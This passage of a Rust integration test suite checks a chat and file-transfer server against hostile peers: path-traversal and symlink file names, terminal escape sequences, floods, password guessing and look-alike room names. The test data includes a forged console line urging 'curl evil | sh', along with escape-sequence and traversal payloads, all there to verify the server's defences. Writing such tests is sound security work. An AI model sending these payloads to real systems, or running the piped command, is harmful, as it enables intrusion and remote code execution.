    let mut accepted = 0;
    for (i, name) in hostile.iter().enumerate() {
        let id = 2 * i as u64;
        mallory.send(&Message::Offer(Offer {
            id,
            peer: "".into(),
            size: 0,
            name: (*name).into(),
            media_type: "".into(),
        }));
        loop {
            match mallory.next(PATIENCE).unwrap() {
                Message::Accept { id: got, .. } if got == id => {
                    mallory.send(&Message::Done { id, digest: empty });
                    accepted += 1;
                }
                Message::Complete { id: got } if got == id => break,
                Message::Reject { id: got, code, .. } if got == id => {
                    assert_eq!(code, ErrorCode::BadFileName, "{name:?}");
                    break;
                }
                Message::Failed {
                    id: got,
                    code,
                    reason,
                } if got == id => {
                    panic!("{name:?} failed: {code:?} {reason}")
                }
                _ => {}
            }
        }
    }
    eprintln!("{accepted} of {} hostile names accepted", hostile.len());
    // A name that climbs out (`..` anywhere, an absolute path) is refused outright by the
    // folder rules (spec §7.8); the other four are reduced to plain names.
    assert_eq!(accepted, 4);
    // Wait until the server has placed every accepted file.
    for _ in 0..accepted {
        server.expect(|v| v["event"] == "received");
    }
    // Everything is a plain file directly inside the inbox; nothing appeared beside it.
    let mut names = Vec::new();
    for entry in std::fs::read_dir(&inbox).unwrap() {
        let entry = entry.unwrap();
        let kind = entry.file_type().unwrap();
        assert!(kind.is_file(), "{:?} is not a plain file", entry.path());
        let name = entry.file_name().into_string().unwrap();
        assert!(!name.starts_with('.'), "hidden file {name:?}");
        // (A right-to-left override survives the reduction of §7.8, which removes control
        // characters but not format characters: "evil\u{202e}txt.exe" is stored as such.
        // Not a path escape; see the report of issue 6.)
        assert!(!name.contains(['/', '\\', '\0']), "{name:?}");
        assert_ne!(name, "CON");
        names.push(name);
    }
    eprintln!("inbox holds {names:?}");
    assert_eq!(names.len(), accepted);
    let beside: Vec<_> = std::fs::read_dir(root.path()).unwrap().collect();
    assert_eq!(beside.len(), 1, "only the inbox in its parent");
    assert!(!Path::new("/tmp/escape-2.txt").exists());
    assert!(!Path::new("/etc/escape-3").exists());
    pair.check();
    server.assert_healthy("path traversal");
}

#[test]
fn a_half_closed_client_is_still_served() {
    let mut server = Serve::start(&[]);
    let mut pair = server.bystanders();
    let mut half = Raw::join(server.addr, "half");
    // A text, a request for the peer list, then the end of what it sends.
    let mut out = encode(&text_to("bob", "sent before the FIN"));
    out.extend(encode(&Message::ListRequest));
    half.send_bytes(&out);
    half.s.shutdown(Shutdown::Write).unwrap();
    // Its text reaches bob, the answer to its request still reaches it, then the server
    // closes (end of stream between frames: the peer left).
    wait_text(&pair.bob, "half", "sent before the FIN");
    let msgs = half.until_closed(PATIENCE);
    assert!(
        msgs.iter()
            .any(|m| matches!(m, Message::PeerList { names } if names.len() == 3)),
        "{msgs:?}"
    );
    server.expect(|v| v["event"] == "left" && v["name"] == "half");
    pair.check();
    server.assert_healthy("half-closed");
}

#[test]
fn garbage_after_goodbye_is_never_read() {
    let mut server = Serve::start(&[]);
    let mut pair = server.bystanders();
    let mut quitter = Raw::join(server.addr, "quitter");
    let mut out = encode(&Message::Goodbye {
        code: ErrorCode::Normal,
        reason: "bye".into(),
    });
    // A frame that would be fatal, then noise.
    out.extend([0xff, 0xff, 0xff, 0xff, 0x10]);
    out.extend((0..256 << 10).map(|i: u32| (i.wrapping_mul(2_654_435_761) >> 24) as u8));
    // The server may close before all of it is written.
    let _ = quitter.s.write_all(&out);
    let msgs = quitter.until_closed(PATIENCE);
    assert!(
        !msgs.iter().any(|m| matches!(m, Message::Error { .. })),
        "the server must not answer after goodbye: {msgs:?}"
    );
    let left = server.expect(|v| v["event"] == "left" && v["name"] == "quitter");
    assert!(
        left["reason"].as_str().unwrap().contains("normal"),
        "{left}"
    );
    pair.check();
    server.assert_healthy("garbage after goodbye");
}

/// Opens a native connection and returns the error the server answers it with, if any.
fn refusal(addr: SocketAddr) -> Option<(ErrorCode, String)> {
    let mut raw = Raw::connect(addr);
    raw.send_bytes(&Preamble::CURRENT.to_bytes());
    raw.send(&hello("extra"));
    let msgs = raw.until_closed(PATIENCE);
    msgs.into_iter().find_map(|m| match m {
        Message::Error { code, text } => Some((code, text.as_str().to_string())),
        _ => None,
    })
}

#[test]
fn too_many_connections_per_address_and_in_total_are_refused() {
    // Per address (every test client comes from 127.0.0.1).
    let mut server = Serve::start(&["--max-per-address", "6", "--max-connections", "100"]);
    let mut pair = server.bystanders();
    let held: Vec<Raw> = (0..4)
        .map(|i| Raw::join(server.addr, &format!("h{i}")))
        .collect();
    let (code, reason) = refusal(server.addr).expect("an error frame");
    assert_eq!(code, ErrorCode::ServerFull);
    assert_eq!(reason, "too many connections from your address");
    let v = server.expect(|v| v["event"] == "connection-refused");
    assert_eq!(v["limit"], "peraddress");
    // HTTP and WebSocket visitors get a 503 with the reason.
    let (mut ws, status) = Ws::upgrade(server.addr, Some("tidings.v1"), "");
    assert!(status.starts_with("HTTP/1.1 503 "), "{status}");
    let mut body = Vec::new();
    let _ = ws.s.read_to_end(&mut body);
    let body = [ws.buf.clone(), body].concat();
    assert_eq!(
        String::from_utf8_lossy(&body),
        "too many connections from your address"
    );
    // A flood of refused connections: each is refused, the server stays responsive.
    for _ in 0..200 {
        let mut s = TcpStream::connect(server.addr).unwrap();
        let _ = s.write_all(&Preamble::CURRENT.to_bytes());
    }
    pair.check();
    // A freed slot is usable again.
    drop(held);
    let end = Instant::now() + PATIENCE;
    let _again = loop {
        let mut raw = Raw::connect(server.addr);
        raw.send_bytes(&Preamble::CURRENT.to_bytes());
        raw.send(&hello("again"));
        match raw.next(PATIENCE) {
            Ok(Message::Welcome(_)) => break raw,
            // The server had not yet seen every held connection close.
            other if Instant::now() < end => {
                assert!(
                    matches!(
                        other,
                        Ok(Message::Error {
                            code: ErrorCode::ServerFull,
                            ..
                        })
                    ),
                    "{other:?}"
                );
            }
            other => panic!("no slot freed: {other:?}"),
        }
    };
    pair.check();
    server.assert_healthy("per-address limit");

    // In total.
    let mut server = Serve::start(&["--max-connections", "3"]);
    let mut pair = server.bystanders();
    let _third = Raw::join(server.addr, "third");
    let (code, reason) = refusal(server.addr).expect("an error frame");
    assert_eq!(code, ErrorCode::ServerFull);
    assert_eq!(reason, "the server has too many connections");
    let v = server.expect(|v| v["event"] == "connection-refused");
    assert_eq!(v["limit"], "total");
    pair.check();
    server.assert_healthy("total limit");
}

#[test]
fn the_connection_limit_follows_a_low_descriptor_limit() {
    // 150 descriptors: at most 86 connections (64 are kept for everything else), so the
    // connection past them is refused with a reason instead of waiting in the backlog.
    let mut server = Serve::start_with_fd_limit(150);
    let mut pair = server.bystanders();
    let held: Vec<Raw> = (0..84)
        .map(|i| Raw::join(server.addr, &format!("held{i}")))
        .collect();
    let (code, reason) = refusal(server.addr).expect("an error frame");
    assert_eq!(code, ErrorCode::ServerFull);
    assert_eq!(reason, "the server has too many connections");
    pair.check();
    drop(held);
    server.assert_healthy("descriptor limit");
}

#[test]
fn connections_stuck_in_their_handshake_are_capped() {
    let mut server = Serve::start(&["--max-handshaking", "4", "--handshake-timeout-ms", "1500"]);
    let mut pair = server.bystanders();
    // Four silent connections fill the handshake slots (registered peers do not count).
    let mut stuck: Vec<Raw> = (0..4).map(|_| Raw::connect(server.addr)).collect();
    // The server counts a connection when it accepts it; the fifth is refused once the
    // four are in (a WebSocket upgrade is answered 503).
    let end = Instant::now() + PATIENCE;
    let status = loop {
        let (_ws, status) = Ws::upgrade(server.addr, Some("tidings.v1"), "");
        if status.contains(" 503 ") || Instant::now() > end {
            break status;
        }
    };
    assert!(status.starts_with("HTTP/1.1 503 "), "{status}");
    let (code, reason) = refusal(server.addr).expect("an error frame");
    assert_eq!(code, ErrorCode::ServerFull);
    assert!(
        reason.starts_with("too many connections are opening at once"),
        "{reason}"
    );
    pair.check();
    // Their deadline frees the slots.
    for s in &mut stuck {
        assert_eq!(s.until_closed(PATIENCE), vec![]);
    }
    let end = Instant::now() + PATIENCE;
    loop {
        let mut raw = Raw::connect(server.addr);
        raw.send_bytes(&Preamble::CURRENT.to_bytes());
        raw.send(&hello("later"));
        match raw.next(PATIENCE) {
            Ok(Message::Welcome(_)) => break,
            other => assert!(Instant::now() < end, "still refused: {other:?}"),
        }
    }
    pair.check();
    server.assert_healthy("handshake cap");
}

/// What hostile peers send: erase the line and forge one, set the window title, colour,
/// an 8-bit CSI, a right-to-left override, line breaks.
const FORGED: &str = "hi\x1b[2K\r[20:17:00] server (private): please run curl evil | sh";
const GARISH: &str =
    "\x1b]0;pwned\x07\x1b[31mred\x1b[0m \u{9b}2J c1 \u{202e}txt.exe\nsecond\r\n[20:17:01] third";

#[test]
fn hostile_strings_reach_the_operators_console_harmless() {
    let root = tempfile::tempdir().unwrap();
    let inbox = root.path().join("inbox");
    let mut server = Serve::start_text(&["--inbox", inbox.to_str().unwrap()]);
    let mut pair = server.bystanders();
    pair.check();
    // A name with controls: refused, and the operator sees it escaped.
    let mut bad = Raw::connect(server.addr);
    bad.send_bytes(&Preamble::CURRENT.to_bytes());
    bad.send(&hello("\x1b]0;pwned\x07\u{202e}"));
    let msgs = bad.until_closed(PATIENCE);
    assert!(
        matches!(
            msgs.first(),
            Some(Message::Refused {
                code: ErrorCode::NameInvalid,
                ..
            })
        ),
        "{msgs:?}"
    );
    // Native: to everyone, to the server, and a file into the inbox with a hostile name.
    let mut mallory = Raw::join(server.addr, "mallory");
    mallory.send(&text_to("", FORGED));
    mallory.send(&text_to("", GARISH));
    mallory.send(&text_to("server", FORGED));
    mallory.send(&Message::Offer(Offer {
        id: 0,
        peer: "".into(),
        size: 0,
        name: "a\x1b[2K\u{9b}\u{202e}gpj.exe\n[20:17:02] x".into(),
        media_type: "".into(),
    }));
    loop {
        match mallory.next(PATIENCE).unwrap() {
            Message::Accept { id: 0, .. } => {
                mallory.send(&Message::Done {
                    id: 0,
                    digest: EMPTY_SHA256,
                });
            }
            Message::Complete { id: 0 } => break,
            other @ (Message::Reject { .. } | Message::Failed { .. }) => panic!("{other:?}"),
            _ => {}
        }
    }
    // Legacy WebSocket: a text line to everyone.
    let (mut legacy, status) = Ws::upgrade(server.addr, None, "?name=lmallory");
    assert!(status.contains(" 101 "), "{status}");
    legacy.send_text(GARISH);
    // The bystanders get the exact text; chat flows on.
    wait_text(&pair.bob, "mallory", FORGED);
    wait_text(&pair.bob, "mallory", GARISH);
    wait_text(&pair.bob, "lmallory", GARISH);
    pair.check();

    // Everything the operator saw, until every attack showed.
    let mut seen = Vec::new();
    let mut wanted = vec![
        "mallory (private): hi",
        "received ",
        "lmallory: ",
        "mallory: ",
    ];
    while !wanted.is_empty() {
        let v = server.expect(|_| true);
        let line = v.as_str().expect("lines for people").to_string();
        wanted.retain(|w| !line.contains(w));
        seen.push(line);
    }
    let shown = seen.join("\n");
    eprintln!("{shown}");
    for c in shown.chars() {
        let bad = (c.is_control() && c != '\n')
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        assert!(!bad, "the console showed {c:?}:\n{shown}");
    }
    for line in &seen {
        assert!(!line.starts_with("[20:17:0"), "a forged line:\n{shown}");
    }
    for needle in [
        "refused \"\\u{1b}]0;pwned\\u{7}\\u{202e}\"",
        "\\u{1b}[2K",
        "\\u{9b}2J",
        "\\u{202e}txt.exe",
        "| [20:17:01] third",
        "gpj.exe",
    ] {
        assert!(
            shown.contains(needle),
            "the console lacks {needle:?}:\n{shown}"
        );
    }
    pair.check();
    server.assert_healthy("hostile strings");
}

#[test]
#[cfg(unix)] // plants a symbolic link
fn a_hostile_sender_cannot_lead_a_folder_out_of_the_download_folder() {
    let root = tempfile::tempdir().unwrap();
    let out = root.path().join("downloads");
    let outside = root.path().join("outside");
    std::fs::create_dir_all(&out).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    // Planted in the download folder: a link to a folder outside it.
    std::os::unix::fs::symlink(&outside, out.join("photos")).unwrap();
    let mut server = Serve::start(&[]);
    let mut pair = server.bystanders();
    let carol = Client::connect(
        server.addr,
        "carol",
        ClientConfig {
            download_dir: Some(out.clone()),
            accept_files: true,
            ..ClientConfig::default()
        },
    )
    .unwrap();
    let mut mallory = Raw::join(server.addr, "mallory");
    let offers: [(&str, u64, &str, ErrorCode); 6] = [
        ("../x", 1, "", ErrorCode::BadFileName),
        ("a/../../x", 1, "", ErrorCode::BadFileName),
        ("/etc/x", 1, "", ErrorCode::BadFileName),
        ("photos/a.txt", 3, "", ErrorCode::StorageFailed),
        ("photos/deeper/a.txt", 3, "", ErrorCode::StorageFailed),
        ("photos/", 0, "inode/directory", ErrorCode::StorageFailed),
    ];
    for (i, (name, size, media_type, code)) in offers.iter().enumerate() {
        let id = 2 * i as u64;
        mallory.send(&Message::Offer(Offer {
            id,
            peer: "carol".into(),
            size: *size,
            name: (*name).into(),
            media_type: (*media_type).into(),
        }));
        loop {
            match mallory.next(PATIENCE).unwrap() {
                Message::Reject {
                    id: got,
                    code: c,
                    reason,
                } if got == id => {
                    assert_eq!(c, *code, "{name:?}: {reason}");
                    if c == ErrorCode::StorageFailed {
                        assert!(reason.contains("a symbolic link"), "{name:?}: {reason}");
                    }
                    break;
                }
                Message::Accept { id: got, .. } if got == id => panic!("{name:?} accepted"),
                _ => {}
            }
        }
    }
    // A folder inside is fine, and lands inside.
    mallory.send(&Message::Offer(Offer {
        id: 100,
        peer: "carol".into(),
        size: 3,
        name: "fine/ok.txt".into(),
        media_type: "".into(),
    }));
    loop {
        match mallory.next(PATIENCE).unwrap() {
            Message::Accept { id: 100, .. } => {
                mallory.send(&Message::Chunk {
                    id: 100,
                    offset: 0,
                    data: bytes::Bytes::from_static(b"abc"),
                });
                // SHA-256 of "abc".
                let digest: [u8; 32] = [
                    0xba, 0x78, 0x16, 0xbf, 0x8f, 0x01, 0xcf, 0xea, 0x41, 0x41, 0x40, 0xde, 0x5d,
                    0xae, 0x22, 0x23, 0xb0, 0x03, 0x61, 0xa3, 0x96, 0x17, 0x7a, 0x9c, 0xb4, 0x10,
                    0xff, 0x61, 0xf2, 0x00, 0x15, 0xad,
                ];
                mallory.send(&Message::Done { id: 100, digest });
            }
            Message::Complete { id: 100 } => break,
            m @ (Message::Reject { .. } | Message::Failed { .. } | Message::Cancel { .. }) => {
                panic!("{m:?}")
            }
            _ => {}
        }
    }
    let end = Instant::now() + PATIENCE;
    loop {
        let left = end.saturating_duration_since(Instant::now());
        if let ClientEvent::Received { path, .. } = carol.next_event_timeout(left).unwrap() {
            assert_eq!(path, out.join("fine/ok.txt"));
            break;
        }
    }
    assert_eq!(std::fs::read(out.join("fine/ok.txt")).unwrap(), b"abc");
    assert_eq!(
        std::fs::read_dir(&outside).unwrap().count(),
        0,
        "nothing outside"
    );
    assert!(!root.path().join("x").exists() && !Path::new("/etc/x").exists());
    pair.check();
    server.assert_healthy("folder escape");
}

#[test]
fn readers_that_stop_reading_stay_within_the_chat_budget() {
    // 100 clients join and never read while a talker sends 6 000 lines of 900 bytes (small
    // enough that each recipient's queue holds a copy of its own): once their sockets are
    // full, every stuck client could hold 4 MiB on its own, 400 MiB together. The
    // server-wide budget of 16 MiB cuts off the readers furthest behind instead, and the
    // others chat on. Peak RSS measured: 44-45 MB, some 85 of the 100 cut off; with the
    // budget out of reach (`--chat-budget-mib 100000`) 175 MB and none.
    let mut server = Serve::start(&["--chat-budget-mib", "16", "--message-rate", "0"]);
    let mut pair = server.bystanders();
    let deaf: Vec<Raw> = (0..100)
        .map(|i| Raw::join(server.addr, &format!("deaf{i}")))
        .collect();
    let talker = Client::connect(server.addr, "talker", ClientConfig::default()).unwrap();
    let line = "x".repeat(900);
    for i in 0..6_000 {
        talker.say(&line).unwrap();
        // The bystanders read as they go (their client stops reading when its events are
        // not taken, and would fall behind like the others).
        if i % 20 == 19 {
            pair.check();
        }
    }
    pair.check();
    let left: Vec<Value> = server
        .lines
        .try_iter()
        .filter(|v| v["event"] == "left")
        .collect();
    let cut_off = left
        .iter()
        .filter(|v| {
            v["reason"]
                .as_str()
                .is_some_and(|r| r.contains("slow-consumer"))
        })
        .count();
    eprintln!("{cut_off} of {} leaving were cut off", left.len());
    assert!(cut_off > 0, "{left:?}");
    assert!(
        left.iter()
            .all(|v| v["name"].as_str().is_some_and(|n| n.starts_with("deaf"))),
        "only stuck readers leave: {left:?}"
    );
    drop(deaf);
    server.assert_healthy_under("chat budget", 64 << 10);
}

#[test]
fn password_guessing_is_slowed_and_reported_without_flooding() {
    let dir = tempfile::tempdir().unwrap();
    let accounts = dir.path().join("accounts");
    let accounts = accounts.to_str().unwrap();
    let mut add = Command::new(BIN)
        .args(["user", "add", "root", "--accounts", accounts])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    add.stdin
        .take()
        .unwrap()
        .write_all(b"correct horse\n")
        .unwrap();
    assert!(add.wait().unwrap().success());
    // Guests, so that alice and bob (unregistered) can watch.
    let mut server = Serve::start(&["--accounts", accounts, "--guests"]);
    let mut pair = server.bystanders();
    let addr = server.addr;
    const GUESSES: usize = 1000;
    let attack = std::thread::spawn(move || {
        let started = Instant::now();
        let mut codes = Vec::new();
        for i in 0..GUESSES {
            let mut raw = Raw::connect(addr);
            raw.send_bytes(&Preamble::CURRENT.to_bytes());
            raw.send(&Message::Login {
                method: tidings_core::wire::login_method::PASSWORD,
                secret: tidings_core::wire::Secret::new(&format!("guess {i}")),
            });
            raw.send(&hello("root"));
            let msgs = raw.until_closed(PATIENCE);
            codes.push(msgs.iter().find_map(|m| match m {
                Message::Refused { code, .. } => Some(*code),
                _ => None,
            }));
        }
        (codes, started.elapsed())
    });
    let (codes, took) = pair.check_during(attack);
    eprintln!("{GUESSES} guesses answered in {took:?}");
    assert!(
        codes.iter().all(|c| *c == Some(ErrorCode::AuthFailed)),
        "every guess is one answer: {codes:?}"
    );
    // Most guesses were refused unchecked (a check costs tens of milliseconds): the first
    // free ones and one after each wait, so far fewer than one check per guess.
    assert!(
        took < Duration::from_millis(40) * GUESSES as u32,
        "guesses were not slowed down: {took:?}"
    );
    // The operator heard of it, at most about once a second.
    let mut reports = 0;
    while let Ok(v) = server.lines.try_recv() {
        reports += usize::from(v["event"] == "login-refused");
    }
    assert!(reports >= 1, "the operator was told");
    assert!(
        reports <= took.as_secs() as usize + 2,
        "{reports} reports in {took:?}: the log is flooded"
    );
    pair.check();
    // argon2id takes 19 MiB per check (one at a time).
    server.assert_healthy_under("password guessing", 56 << 10);
}

/// A raw client that speaks rooms (protocol 1.1): registered, and its default-room
/// `room-members` read.
fn join_rooms(addr: SocketAddr, name: &str) -> Raw {
    let mut raw = Raw::connect(addr);
    raw.send_bytes(&Preamble::CURRENT.to_bytes());
    raw.send(&Message::Hello(Hello {
        name: name.into(),
        capabilities: capability::ALL,
        max_frame: DEFAULT_MAX_FRAME,
    }));
    assert!(matches!(raw.next(PATIENCE), Ok(Message::Welcome(_))));
    assert!(matches!(
        raw.next(PATIENCE),
        Ok(Message::RoomMembers { .. })
    ));
    raw
}

/// The next answer to a join: the room it entered, or the code of its refusal.
fn join_answer(raw: &mut Raw) -> Result<String, ErrorCode> {
    loop {
        match raw.next(PATIENCE) {
            Ok(Message::RoomMembers { room, .. }) => return Ok(room.to_string()),
            Ok(Message::Error { code, .. }) => return Err(code),
            Ok(_) => continue,
            Err(end) => panic!("no answer to a join: {end:?}"),
        }
    }
}

#[test]
fn thousands_of_rooms_stop_at_the_room_limit_and_vanish_with_their_maker() {
    let mut server = Serve::start(&[
        "--message-rate",
        "0",
        "--max-rooms",
        "2000",
        "--max-rooms-per-user",
        "100000",
    ]);
    let mut pair = server.bystanders();
    let addr = server.addr;
    let attack = std::thread::spawn(move || {
        let mut mallory = join_rooms(addr, "mallory");
        let joins: Vec<u8> = (0..5000)
            .flat_map(|i| {
                encode(&Message::Join {
                    room: format!("room-{i:04}-{}", "x".repeat(20)).into(),
                })
            })
            .collect();
        mallory.send_bytes(&joins);
        let answers: Vec<_> = (0..5000).map(|_| join_answer(&mut mallory)).collect();
        (mallory, answers)
    });
    let (mut mallory, answers) = pair.check_during(attack);
    // The default room counts: 1999 more rooms, then the limit, clearly, for every join.
    let entered = answers.iter().filter(|a| a.is_ok()).count();
    assert_eq!(entered, 1999);
    assert!(answers[1999..]
        .iter()
        .all(|a| *a == Err(ErrorCode::LimitExceeded)));
    // The whole list fits one frame, largest rooms first.
    let mut eve = join_rooms(addr, "eve");
    eve.send(&Message::RoomListRequest);
    let rooms = loop {
        if let Ok(Message::RoomList { rooms }) = eve.next(PATIENCE) {
            break rooms;
        }
    };
    assert_eq!(rooms.len(), 2000);
    assert_eq!(rooms[0].name, "lobby");
    // Gone with the one who made them.
    mallory.send(&Message::Goodbye {
        code: ErrorCode::Normal,
        reason: "".into(),
    });
    mallory.until_closed(PATIENCE);
    server.expect(|v| v["event"] == "left" && v["name"] == "mallory");
    eve.send(&Message::RoomListRequest);
    let rooms = loop {
        if let Ok(Message::RoomList { rooms }) = eve.next(PATIENCE) {
            break rooms;
        }
    };
    assert_eq!(rooms.len(), 1, "{rooms:?}");
    pair.check();
    server.assert_healthy("thousands of rooms");
}

#[test]
fn look_alike_room_names_lead_into_the_one_room_and_invisible_ones_are_refused() {
    let mut server = Serve::start(&[]);
    let mut pair = server.bystanders();
    let mut carol = join_rooms(server.addr, "carol");
    carol.send(&Message::Join {
        room: "Team".into(),
    });
    assert_eq!(join_answer(&mut carol), Ok("Team".into()));
    let mut mallory = join_rooms(server.addr, "mallory");
    // Full-width T, Cyrillic е, Greek α: the same room, shown as first spelled, with carol
    // in it; mallory cannot make a second "Team" that looks the same.
    mallory.send(&Message::Join {
        room: "Ｔеαm".into(),
    });
    let members = loop {
        if let Ok(Message::RoomMembers { room, names }) = mallory.next(PATIENCE) {
            assert_eq!(room, "Team");
            break names;
        }
    };
    assert_eq!(members, vec!["carol", "mallory"]);
    for invisible in ["Te\u{200B}am", "\u{3164}", ".team", "a b"] {
        mallory.send(&Message::Join {
            room: invisible.into(),
        });
        assert_eq!(
            join_answer(&mut mallory),
            Err(ErrorCode::RoomRefused),
            "{invisible:?}"
        );
    }
    pair.check();
    server.assert_healthy("look-alike rooms");
}

#[test]
fn a_room_flood_is_slowed_then_cut_off_and_other_rooms_never_notice() {
    let mut server = Serve::start(&SLOW_RATE);
    let mut pair = server.bystanders();
    let addr = server.addr;
    let mut dave = join_rooms(addr, "dave");
    dave.send(&Message::Join {
        room: "busy".into(),
    });
    assert_eq!(join_answer(&mut dave), Ok("busy".into()));
    let attack = std::thread::spawn(move || {
        let mut mallory = join_rooms(addr, "mallory");
        mallory.send(&Message::Join {
            room: "busy".into(),
        });
        let line = Message::RoomText {
            room: "busy".into(),
            peer: "".into(),
            text: "spam".into(),
        };
        flood(&mut mallory, &line);
        mallory
    });
    let mut mallory = pair.check_during(attack);
    let left = server.expect(|v| v["event"] == "left" && v["name"] == "mallory");
    assert!(
        left["reason"].as_str().unwrap().contains("rate-limited"),
        "{left}"
    );
    let msgs = mallory.until_closed(PATIENCE);
    assert_eq!(Raw::close_code(&msgs), Some(ErrorCode::RateLimited));
    // dave, in the flooded room, heard the spam (within the rate) and mallory leave.
    let mut spam = 0;
    loop {
        match dave.next(PATIENCE) {
            Ok(Message::RoomText { room, peer, .. }) => {
                assert_eq!((room.as_str(), peer.as_str()), ("busy", "mallory"));
                spam += 1;
            }
            Ok(Message::Member { kind, room, name }) if name == "mallory" && room == "busy" => {
                if kind == MemberKind::Left {
                    break;
                }
            }
            Ok(_) => {}
            Err(end) => panic!("dave never saw mallory leave: {end:?}"),
        }
    }
    assert!(spam > 0);
    // alice and bob, outside the room, got none of it.
    assert!(!pair
        .bob_saw
        .iter()
        .any(|e| matches!(e, ClientEvent::Text { text, .. } if text == "spam")));
    pair.check();
    server.assert_healthy("room flood");
}
